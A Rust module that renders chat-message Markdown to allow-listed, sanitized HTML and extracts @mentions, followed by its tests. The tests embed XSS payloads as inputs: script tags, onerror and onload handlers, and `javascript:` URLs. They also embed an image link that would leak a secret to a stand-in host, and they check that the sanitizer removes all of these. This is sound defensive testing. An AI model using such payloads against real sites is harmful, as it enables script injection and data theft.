//! Message rendering: Markdown to HTML, then sanitized with an allow-list.
//! Only http(s) and mailto links survive (opened with `rel="noopener
//! noreferrer nofollow"`); images, scripts, event handlers, styles and
//! `javascript:` URLs never do. The web UI shows `body_html` as is, behind a
//! CSP without inline scripts and with `img-src 'self'`.

use std::collections::HashSet;
use std::sync::OnceLock;

use pulldown_cmark::{html, Options, Parser};

fn sanitizer() -> &'static ammonia::Builder<'static> {
    static B: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    B.get_or_init(|| {
        let tags: HashSet<&str> = [
            "p",
            "br",
            "em",
            "strong",
            "del",
            "code",
            "pre",
            "blockquote",
            "ul",
            "ol",
            "li",
            "a",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
        ]
        .into_iter()
        .collect();
        let mut b = ammonia::Builder::empty();
        b.tags(tags)
            .add_tag_attributes("a", ["href"])
            .url_schemes(["http", "https", "mailto"].into_iter().collect())
            .link_rel(Some("noopener noreferrer nofollow"))
            .strip_comments(true);
        b
    })
}

fn needs_markdown(body: &str) -> bool {
    // Characters with a Markdown or HTML meaning anywhere in a line...
    let special = body.bytes().any(|b| {
        matches!(
            b,
            b'<' | b'>'
                | b'&'
                | b'*'
                | b'_'
                | b'`'
                | b'['
                | b']'
                | b'!'
                | b'#'
                | b'\\'
                | b'~'
                | b'|'
                | b'"'
                | b'\''
        ) || b.is_ascii_control()
    });
    // ...and at the start of a line (lists, headings, code indents).
    let first = body.bytes().next();
    special
        || body.is_empty()
        || first.is_some_and(|b| b.is_ascii_digit() || matches!(b, b'-' | b'+' | b'=' | b' '))
        || body.ends_with(' ')
}

/// Render a message body to sanitized HTML.
pub fn to_html(body: &str) -> String {
    if !needs_markdown(body) {
        // Plain prose: what the full pipeline would produce, without parsing.
        return format!("<p>{body}</p>");
    }
    let mut raw = String::with_capacity(body.len() + 16);
    let opts = Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TABLES;
    html::push_html(&mut raw, Parser::new_ext(body, opts));
    sanitizer().clean(&raw).to_string().trim_end().to_string()
}

/// Handles mentioned as `@handle` in a body (lower-cased, deduplicated).
pub fn mentions(body: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for (i, _) in body.match_indices('@') {
        let before_ok = body[..i]
            .chars()
            .next_back()
            .is_none_or(|c| !c.is_alphanumeric() && c != '_');
        if !before_ok {
            continue;
        }
        let handle: String = body[i + 1..]
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '-' || *c == '.')
            .collect();
        let handle = handle.trim_end_matches('.').to_ascii_lowercase();
        if !handle.is_empty() && handle.len() <= 64 && !out.contains(&handle) {
            out.push(handle);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn full(body: &str) -> String {
        let mut raw = String::new();
        html::push_html(
            &mut raw,
            Parser::new_ext(body, Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TABLES),
        );
        sanitizer().clean(&raw).to_string().trim_end().to_string()
    }

    #[test]
    fn scripts_handlers_and_javascript_urls_are_removed() {
        let out = to_html("<script>alert(1)</script> <img src=x onerror=alert(1)> <a href=\"javascript:evil()\">y</a>");
        assert!(!out.contains("<script"), "{out}");
        assert!(!out.contains("onerror"), "{out}");
        assert!(!out.contains("href=\"javascript"), "{out}");
        assert!(!out.contains("<img"), "{out}");
        let out = to_html("[x](javascript:alert(1)) and [y](JaVaScRiPt:alert(2))");
        assert!(!out.to_ascii_lowercase().contains("javascript:"), "{out}");
    }

    #[test]
    fn external_images_never_render() {
        let out = to_html("![x](https://evil.example/?d=SECRET)");
        assert!(!out.contains("<img"), "{out}");
        assert!(!out.contains("evil.example"), "{out}");
    }

    #[test]
    fn links_get_safe_rel_and_markdown_renders() {
        let out = to_html("**bold** and [docs](https://example.com/a)");
        assert!(out.contains("<strong>bold</strong>"));
        assert!(
            out.contains("rel=\"noopener noreferrer nofollow\""),
            "{out}"
        );
    }

    #[test]
    fn mentions_are_found() {
        assert_eq!(
            mentions("hi @Alice and @bob.smith, not mail@x.com"),
            vec!["alice", "bob.smith"]
        );
    }

    proptest! {
        // The renderer is fuzzed: no input produces active content. Every tag
        // in the output is on the allow-list with only safe attributes; text
        // between tags is escaped, so it cannot open a tag.
        #[test]
        fn nothing_active_survives(s in "(<script>|<img src=x onerror=y>|javascript:|\\[a\\]\\(|\\)|!|<|>|\"|'|[a-z ]|\n|<svg onload=1>|<iframe>|&#x6a;avascript:|style=|<a href=\"javascript:x\">|\\[l\\]\\(https://e.example/\\))*") {
            let out = to_html(&s);
            for tag in out.split('<').skip(1) {
                let inside = tag.split('>').next().unwrap_or_default().trim_start_matches('/');
                let name: String = inside.chars().take_while(|c| c.is_ascii_alphanumeric()).collect();
                prop_assert!(["p", "br", "em", "strong", "del", "code", "pre", "blockquote", "ul", "ol", "li", "a",
                    "h1", "h2", "h3", "h4", "h5", "h6", "hr", "table", "thead", "tbody", "tr", "th", "td"].contains(&name.as_str()),
                    "tag {name:?} in {out:?}");
                // The serializer writes every attribute as key="value" with quotes escaped.
                let mut rest = inside[name.len()..].trim();
                while !rest.is_empty() {
                    let (key, after) = rest.split_once("=\"").unwrap_or((rest, ""));
                    let (value, tail) = after.split_once('"').unwrap_or((after, ""));
                    prop_assert!(["href", "rel", "title"].contains(&key), "attribute {key:?} in {out:?}");
                    if key == "href" {
                        let value = value.to_ascii_lowercase();
                        // A scheme is [a-z][a-z0-9+.-]*; anything else before ':' is a relative path.
                        let relative = value.find(':').is_none_or(|i| !value[..i].chars().all(|c| c.is_ascii_alphanumeric() || "+.-".contains(c)));
                        prop_assert!(relative || value.starts_with("https://") || value.starts_with("http://") || value.starts_with("mailto:"), "{out:?}");
                    }
                    rest = tail.trim();
                }
            }
        }

        // The fast path for plain prose is exactly the full pipeline's output.
        #[test]
        fn fast_path_matches_full_pipeline(s in "[A-Za-z,;?]{1,40}( [A-Za-z0-9,;?.:/@%()+=-]{1,20}){0,8}") {
            prop_assert_eq!(to_html(&s), full(&s));
        }
    }
}
